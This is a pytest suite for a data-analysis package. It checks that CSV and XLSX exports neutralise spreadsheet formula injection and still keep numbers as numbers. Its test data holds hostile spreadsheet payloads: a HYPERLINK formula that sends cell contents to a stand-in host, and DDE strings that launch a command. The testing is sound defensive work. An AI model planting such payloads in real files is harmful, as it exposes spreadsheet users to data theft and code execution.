"""Files for spreadsheet users never carry a live formula (OWASP CSV injection).

Payloads: =1+1, =HYPERLINK(...), +cmd, -2+3, @SUM, a leading tab, a leading carriage
return. Each must reach the file as text (a leading apostrophe in CSV, a text cell in
XLSX); numbers, negative ones included, must stay numbers.
"""
from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from clusnet_analysis.cli import app as cli
from clusnet_analysis.publish.files import (
    csv_bytes_for_people,
    spreadsheet_safe,
    spreadsheet_safe_text,
    write_csv_for_people,
    write_xlsx_for_people,
)

from clusnet_testdata import EXPENSES, expense, exchange, write_data

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
PAYLOADS = ["=1+1", HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _live(cell: str) -> bool:
    """A CSV cell a spreadsheet would evaluate: starts with a trigger and is not a plain number."""
    return cell.startswith(TRIGGERS) and spreadsheet_safe_text(cell) != cell


def _csv_cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_gets_an_apostrophe(payload):
    assert spreadsheet_safe_text(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-5", "-289.50", "+3", "1e6", "-0,5", "ok", "a=b", "", "'=1"])
def test_plain_numbers_and_harmless_text_are_left_alone(value):
    assert spreadsheet_safe_text(value) == value


def test_frame_text_columns_neutralised_number_columns_untouched():
    df = pd.DataFrame({
        "title": pd.Series(PAYLOADS + ["-5", None], dtype="str"),
        "amount": [-1.5, -2.0, 3.0, -4.0, 5.0, 6.0, -7.25, -8.0, 9.0],
        "count": pd.array([-1, 2, None, 4, 5, 6, 7, 8, 9], dtype="Int64"),
        "mixed": pd.Series(["+cmd", -3, None, 1.5, "x", "y", "z", "=A1", "-1"], dtype=object),
        "=bad header": ["a"] * 9,
    })
    safe = spreadsheet_safe(df)
    assert safe["title"].tolist()[:7] == ["'" + p for p in PAYLOADS]
    assert safe["title"].iloc[7] == "-5" and pd.isna(safe["title"].iloc[8])
    assert str(safe["title"].dtype) == str(df["title"].dtype)
    pd.testing.assert_series_equal(safe["amount"], df["amount"])
    pd.testing.assert_series_equal(safe["count"], df["count"])
    assert safe["mixed"].tolist()[:2] == ["'+cmd", -3] and safe["mixed"].iloc[7] == "'=A1"
    assert safe["mixed"].iloc[8] == "-1"
    assert list(safe.columns)[-1] == "'=bad header"
    assert df["title"].iloc[0] == "=1+1"   # the caller's frame is not changed


def test_csv_bytes_keep_numbers_and_quote_carriage_returns():
    df = pd.DataFrame({"text": ["=1+1", "\r=2", "a\rb"], "n": [-2.5, 3.0, -4.0]})
    text = csv_bytes_for_people(df).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["text", "n"], ["'=1+1", "-2.5"], ["'\r=2", "3.0"], ["a\rb", "-4.0"]]
    # a carriage return inside a cell is quoted, so it never starts a new row
    assert '"\'\r=2"' in text and '"a\rb"' in text


def test_csv_writer_writes_atomically_and_keeps_an_unchanged_file(tmp_path):
    path = tmp_path / "t.csv"
    df = pd.DataFrame({"title": PAYLOADS})
    write_csv_for_people(path, df)
    first = path.stat().st_mtime_ns
    write_csv_for_people(path, df)
    assert path.stat().st_mtime_ns == first
    assert [c for c in _csv_cells(path) if _live(c)] == []
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]


def test_xlsx_payloads_are_text_cells_and_numbers_are_numbers(tmp_path):
    df = pd.DataFrame({"title": PAYLOADS, "amount": [-1.5, 2, -3, 4, 5, 6, -7]})
    path = write_xlsx_for_people(tmp_path / "tables.xlsx", {"practices": df})
    sheet = openpyxl.load_workbook(path)["practices"]
    rows = list(sheet.iter_rows(min_row=2))
    # shown as typed (older openpyxl reads a carriage return back as a line feed) ...
    assert [row[0].value.replace("\r", "\n") for row in rows] == [p.replace("\r", "\n") for p in PAYLOADS]
    assert {row[0].data_type for row in rows} == {"s"}        # ... as text, never a formula ("f")
    assert all(row[0].quotePrefix for row in rows)
    assert [row[1].value for row in rows] == [-1.5, 2, -3, 4, 5, 6, -7]
    assert {row[1].data_type for row in rows} == {"n"}
    again = write_xlsx_for_people(tmp_path / "again.xlsx", {"practices": df})
    assert again.read_bytes() == path.read_bytes()           # byte-identical rebuilds


def test_openpyxl_alone_would_write_a_formula(tmp_path):
    """Why protect_worksheet exists: the planted bug this file guards against."""
    book = openpyxl.Workbook()
    book.active.append(["=1+1"])
    book.save(tmp_path / "raw.xlsx")
    assert openpyxl.load_workbook(tmp_path / "raw.xlsx").active["A1"].data_type == "f"


# ------------------------------------------------------------------ every validation output
def _hostile_data(tmp_path):
    """Payloads in a quarantined practice (errors.csv, quarantine/), and in an exchange id that
    breaks the cost cap (findings.csv)."""
    x = HYPERLINK
    # The reader trims the tab (and a bare carriage return would end the CSV row): those two
    # payloads are covered above on the writers themselves.
    practices = [dict(practice_id=f"P{i}", exchange_id="X1", title=p, description=p, theme="=cmd",
                      phase="formation", transferability="=1+1", cluster_id="C1")
                 for i, p in enumerate(PAYLOADS[:6])]
    return write_data(tmp_path / "data",
                      exchanges=[exchange(), exchange(x, start_date="2009-10-05", end_date="2009-10-09")],
                      expenses=EXPENSES + [expense("E9", exchange_id=x, amount="5000")],
                      practices=practices)


def test_every_validation_csv_is_spreadsheet_safe(tmp_path, capsys):
    out = tmp_path / "out"
    assert cli.main(["validate", "--data", str(_hostile_data(tmp_path)), "--out", str(out)]) == 1
    capsys.readouterr()
    files = sorted(out.rglob("*.csv"))
    assert {p.relative_to(out).as_posix() for p in files} >= {
        "errors.csv", "findings.csv", "findings_by_rule.csv", "quarantine/practices.csv"}
    for path in files:
        assert [c for c in _csv_cells(path) if _live(c)] == [], path
    errors = pd.read_csv(out / "errors.csv", dtype=str, keep_default_na=False)
    assert "'=1+1" in errors["value"].tolist()
    quarantine = pd.read_csv(out / "quarantine" / "practices.csv", dtype=str, keep_default_na=False)
    assert set(quarantine["title"]) == {"'" + p.strip() for p in PAYLOADS[:6]}
    findings = pd.read_csv(out / "findings.csv", dtype=str, keep_default_na=False)
    assert "'" + HYPERLINK in set(findings["exchange_id"])
    # numbers in the findings stay numbers: the over-cap amount is read back as a number
    over = findings[findings["exchange_id"] == "'" + HYPERLINK]
    assert any(v.replace(".", "", 1).isdigit() for v in over["value"])
